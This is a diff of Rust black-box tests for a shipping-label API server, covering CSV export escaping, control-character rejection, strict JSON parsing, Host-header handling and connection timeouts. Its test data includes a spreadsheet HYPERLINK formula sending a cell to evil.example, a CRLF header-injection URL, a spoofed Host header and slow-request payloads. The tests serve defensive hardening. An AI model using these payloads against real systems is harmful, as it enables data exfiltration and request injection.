@@ -356,3 +356,311 @@ fn a_bad_idempotency_key_is_refused_with_its_path() {
     assert_eq!(v["meta"]["code"], 4104);
     assert_eq!(v["meta"]["details"][0]["path"], "headers.idempotency-key");
 }
+
+// ----- Defects found from outside (issue 34), each black box against a real server -----
+
+#[test]
+fn an_exported_csv_never_runs_a_formula_and_keeps_numbers_as_numbers() {
+    let s = Server::start();
+    let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
+    let mut ship_to = address(formula, "GBR", "M1 1AE");
+    ship_to["city"] = json!("-Manchester");
+    s.sandbox_ok(
+        "POST",
+        "/desk/orders",
+        Some(
+            &json!({"order_number": "@SUM(1)", "ship_to": ship_to, "items": [{"description": "+Mug", "quantity": 1}]}),
+        ),
+    );
+    let resp = reqwest::blocking::Client::new()
+        .get(s.url("/desk/orders/export.csv"))
+        .header("service-api-key", &s.sandbox)
+        .send()
+        .unwrap();
+    let text = resp.text().unwrap();
+    let row = text.lines().nth(1).expect("one order");
+    // Each cell a spreadsheet would run is text: quoted and begun with a quote mark.
+    assert!(row.starts_with(r#""'@SUM(1)","#), "{row}");
+    assert!(
+        row.contains(r#""'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")""#),
+        "{row}"
+    );
+    for cell in row.split(',') {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a cell begins with a formula: {cell} in {row}"
+        );
+    }
+}
+
+#[test]
+fn control_characters_are_refused_at_their_field_but_line_breaks_where_text_spans_lines() {
+    let s = Server::start();
+    let account = yodel_account(&s);
+    let mut body = yodel_label(&account, 1);
+    body["shipment"]["ship_to"]["contact_name"] = json!("Jane\u{0}Doe");
+    let (_, v) = s.call("POST", "/v3/labels", &s.sandbox, Some(&body));
+    assert_eq!(v["meta"]["code"], 4104, "{v}");
+    assert_eq!(detail_paths(&v), ["shipment.ship_to.contact_name"]);
+    body["shipment"]["ship_to"]["contact_name"] = json!("Jane Doe");
+    body["shipment"]["ship_to"]["street1"] = json!("1 Bell St\u{7}\u{1b}[2J");
+    let (_, v) = s.call("POST", "/v3/labels", &s.sandbox, Some(&body));
+    assert_eq!(detail_paths(&v), ["shipment.ship_to.street1"]);
+    body["shipment"]["ship_to"]["street1"] = json!("1 Bell St");
+    body["shipment"]["delivery_instructions"] = json!("Ring twice\r\nBack door");
+    let (_, v) = s.call("POST", "/v3/labels", &s.sandbox, Some(&body));
+    assert_eq!(
+        v["meta"]["code"], 200,
+        "line breaks are taken in delivery instructions: {v}"
+    );
+    let (_, v) = s.call(
+        "PUT",
+        "/desk/webhook",
+        &s.sandbox,
+        Some(&json!({"url": "https://wms.example/hook\r\nX-Injected: 1"})),
+    );
+    assert_eq!(detail_paths(&v), ["url"]);
+    // A CSV import refuses the row with the cell's line and column.
+    let csv = "Order number,Name,Street,City,Postcode,Country\n1001,Ann\u{0}Lee,1 High St,Leeds,LS1 1AA,GB\n";
+    let (_, v) = s.send_raw("POST", "/desk/orders/import", &s.sandbox, "text/csv", csv.into());
+    let failed = &v["data"]["failed"];
+    assert_eq!(
+        (v["data"]["imported"].as_i64(), failed[0]["row"].as_i64()),
+        (Some(0), Some(2)),
+        "{v}"
+    );
+    assert_eq!(failed[0]["column"], "Name");
+}
+
+#[test]
+fn json_bodies_are_strict_about_shapes_duplicate_keys_and_their_content_type() {
+    let s = Server::start();
+    let account = yodel_account(&s);
+    let good = yodel_label(&account, 1);
+    let cases = [
+        ("shipper_account", json!(["x"])),
+        ("shipment.parcels[0].weight", json!([2, "kg"])),
+        ("invoice", json!([])),
+    ];
+    for (path, value) in cases {
+        let mut body = good.clone();
+        match path {
+            "shipper_account" => body["shipper_account"] = value,
+            "invoice" => body["invoice"] = value,
+            _ => body["shipment"]["parcels"][0]["weight"] = value,
+        }
+        let (_, v) = s.call("POST", "/v3/labels", &s.sandbox, Some(&body));
+        assert_eq!(
+            (v["meta"]["code"].as_i64(), detail_paths(&v)),
+            (Some(4104), vec![path]),
+            "{v}"
+        );
+    }
+    let text = good
+        .to_string()
+        .replacen(r#""service_type":"#, r#""service_type":"x","service_type":"#, 1);
+    let (_, v) = s.send_raw("POST", "/v3/labels", &s.sandbox, "application/json", text.into_bytes());
+    assert_eq!(
+        (v["meta"]["code"].as_i64(), detail_paths(&v)),
+        (Some(4104), vec!["service_type"]),
+        "{v}"
+    );
+    for ct in [
+        "text/plain",
+        "application/x-www-form-urlencoded",
+        "application/json; charset=latin1",
+    ] {
+        let (status, v) = s.send_raw("POST", "/v3/labels", &s.sandbox, ct, good.to_string().into_bytes());
+        assert_eq!(
+            (status, v["meta"]["code"].as_i64(), detail_paths(&v)),
+            (200, Some(4104), vec!["headers.content-type"]),
+            "{ct}: {v}"
+        );
+    }
+    let (_, v) = s.send_raw(
+        "POST",
+        "/v3/labels",
+        &s.sandbox,
+        "application/json; charset=utf-8",
+        good.to_string().into_bytes(),
+    );
+    assert_eq!(v["meta"]["code"], 200, "{v}");
+    // Ids are found whatever the case of their hex digits, in the path and in the body.
+    let id = v["data"]["id"].as_str().unwrap().to_uppercase();
+    assert_eq!(
+        s.sandbox_ok("GET", &format!("/v3/labels/{id}"), None)["id"],
+        id.to_lowercase()
+    );
+    let mut upper = good.clone();
+    upper["shipper_account"]["id"] = json!(account.to_uppercase());
+    assert_eq!(
+        s.sandbox_ok("POST", "/v3/labels", Some(&upper))["shipper_account"]["id"],
+        account
+    );
+}
+
+#[test]
+fn an_importer_address_needs_a_place_and_a_bulk_download_one_paper_size() {
+    let s = Server::start();
+    let account = yodel_account(&s);
+    let mut body = yodel_label(&account, 1);
+    body["shipment"]["ship_to"] = address("Jane Doe", "DEU", "10115");
+    body["customs"] = json!({"purpose": "merchandise", "importer_address": {"contact_name": "Importer GmbH"}});
+    let (_, v) = s.call("POST", "/v3/labels", &s.sandbox, Some(&body));
+    let paths = detail_paths(&v);
+    for field in ["street1", "city", "country"] {
+        assert!(
+            paths.contains(&format!("customs.importer_address.{field}").as_str()),
+            "{v}"
+        );
+    }
+    // Two labels of one account on two paper sizes cannot be one document of one paper size.
+    let skynet = s.sandbox_ok(
+        "POST",
+        "/v3/shipper-accounts",
+        Some(&json!({"slug": "skynetworldwide", "description": "Skynet",
+        "credentials": {"username": "u", "password": "p", "entity_id": "1", "entity_pin": "2", "account_code": "3"}})),
+    )["id"]
+        .clone();
+    let mut label = yodel_label(skynet.as_str().unwrap(), 1);
+    label["service_type"] = json!("skynetworldwide_domestic_next_day");
+    label["paper_size"] = json!("4x6");
+    let first = s.sandbox_ok("POST", "/v3/labels", Some(&label))["id"].clone();
+    label["paper_size"] = json!("a4");
+    let second = s.sandbox_ok("POST", "/v3/labels", Some(&label))["id"].clone();
+    let (_, v) = s.call(
+        "POST",
+        "/v3/bulk-downloads",
+        &s.sandbox,
+        Some(&json!({"labels": [{"id": first}, {"id": second}]})),
+    );
+    assert_eq!(v["meta"]["code"], 4104, "{v}");
+    assert!(
+        v["meta"]["details"][0]["info"].as_str().unwrap().contains("paper"),
+        "{v}"
+    );
+}
+
+#[test]
+fn file_links_name_the_address_asked_and_head_answers_like_get() {
+    let s = Server::start_with(&["--listen", "0.0.0.0:0", "--public-url", "https://desk.example"]);
+    let port = s.base.rsplit(':').next().unwrap().to_string();
+    let local = format!("http://127.0.0.1:{port}");
+    let account = yodel_account(&s);
+    let create = |base: &str, host: Option<&str>| -> Value {
+        let mut req = reqwest::blocking::Client::new()
+            .post(format!("{base}/v3/labels"))
+            .header("service-api-key", &s.sandbox)
+            .header("content-type", "application/json")
+            .body(yodel_label(&account, 1).to_string());
+        if let Some(h) = host {
+            req = req.header("host", h);
+        }
+        req.send().unwrap().json().unwrap()
+    };
+    let v = create(&local, None);
+    let url = v["data"]["files"]["label"]["url"].as_str().unwrap().to_string();
+    assert!(url.starts_with(&format!("{local}/v3/files/")), "{url}");
+    assert!(!url.contains("0.0.0.0"), "{url}");
+    // Through the name the warehouse gave it, the links use that name.
+    let v = create(&local, Some("desk.example"));
+    let named = v["data"]["files"]["label"]["url"].as_str().unwrap();
+    assert!(named.starts_with("https://desk.example/v3/files/"), "{named}");
+    // Another name in Host is not trusted: the address the request came to is used.
+    let v = create(&local, Some("evil.example"));
+    assert!(
+        v["data"]["files"]["label"]["url"].as_str().unwrap().starts_with(&local),
+        "{v}"
+    );
+    // HEAD on a signed link answers like GET without the body.
+    let client = reqwest::blocking::Client::new();
+    let get = client.get(&url).send().unwrap();
+    assert_eq!(get.status().as_u16(), 200);
+    let length = get.bytes().unwrap().len();
+    let head = client.head(&url).send().unwrap();
+    assert_eq!(head.status().as_u16(), 200);
+    assert_eq!(head.headers()["content-type"], "application/pdf");
+    assert_eq!(head.headers()["content-length"].to_str().unwrap(), length.to_string());
+    assert!(head.bytes().unwrap().is_empty());
+}
+
+/// Reads from a raw connection until the server closes it; false if it is still open after `secs`.
+fn closed_by_server(c: &mut std::net::TcpStream, secs: u64) -> (bool, Vec<u8>) {
+    use std::io::Read;
+    c.set_read_timeout(Some(std::time::Duration::from_secs(secs))).unwrap();
+    let mut got = Vec::new();
+    let mut buf = [0u8; 4096];
+    loop {
+        match c.read(&mut buf) {
+            Ok(0) => return (true, got),
+            Ok(n) => got.extend_from_slice(&buf[..n]),
+            Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => return (true, got),
+            Err(_) => return (false, got),
+        }
+    }
+}
+
+#[test]
+fn slow_and_idle_connections_are_closed_and_too_many_are_refused() {
+    use std::io::Write;
+    let s = Server::start_with(&[
+        "--request-head-timeout",
+        "1",
+        "--idle-timeout",
+        "2",
+        "--body-timeout",
+        "1",
+        "--max-connections",
+        "3",
+    ]);
+    let addr = s.base.trim_start_matches("http://").to_string();
+    let connect = || std::net::TcpStream::connect(&addr).unwrap();
+    // A head sent a byte at a time, never finished: closed.
+    let mut slow_head = connect();
+    slow_head.write_all(b"GET /v3/labels HTTP/1.1\r\nHost: x\r\n").unwrap();
+    assert!(
+        closed_by_server(&mut slow_head, 20).0,
+        "a head that never ends is closed"
+    );
+    // A body that stalls: the request ends and so does the connection.
+    let mut slow_body = connect();
+    let head = format!(
+        "POST /v3/labels HTTP/1.1\r\nHost: x\r\nservice-api-key: {}\r\ncontent-type: application/json\r\ncontent-length: 100\r\n\r\n{{\"a\":",
+        s.sandbox
+    );
+    slow_body.write_all(head.as_bytes()).unwrap();
+    assert!(closed_by_server(&mut slow_body, 20).0, "a stalled body is closed");
+    // Keep-alive: two requests on one connection, then idle: closed.
+    let mut idle = connect();
+    let get = format!(
+        "GET /desk/status HTTP/1.1\r\nHost: x\r\nservice-api-key: {}\r\n\r\n",
+        s.sandbox
+    );
+    for _ in 0..2 {
+        idle.write_all(get.as_bytes()).unwrap();
+        idle.set_read_timeout(Some(std::time::Duration::from_secs(10))).unwrap();
+        let mut buf = [0u8; 65536];
+        let n = std::io::Read::read(&mut idle, &mut buf).unwrap();
+        assert!(
+            buf[..n].starts_with(b"HTTP/1.1 200"),
+            "{}",
+            String::from_utf8_lossy(&buf[..n])
+        );
+    }
+    assert!(
+        closed_by_server(&mut idle, 20).0,
+        "an idle keep-alive connection is closed"
+    );
+    // Three connections held open; a fourth is refused in the interface's words.
+    let held: Vec<_> = (0..3).map(|_| connect()).collect();
+    std::thread::sleep(std::time::Duration::from_millis(200));
+    let mut fourth = connect();
+    let (closed, said) = closed_by_server(&mut fourth, 20);
+    let said = String::from_utf8_lossy(&said);
+    assert!(closed && said.starts_with("HTTP/1.1 503"), "{said}");
+    assert!(
+        said.contains("\"retryable\":true") && said.contains("3 connections"),
+        "{said}"
+    );
+    drop(held);
+}
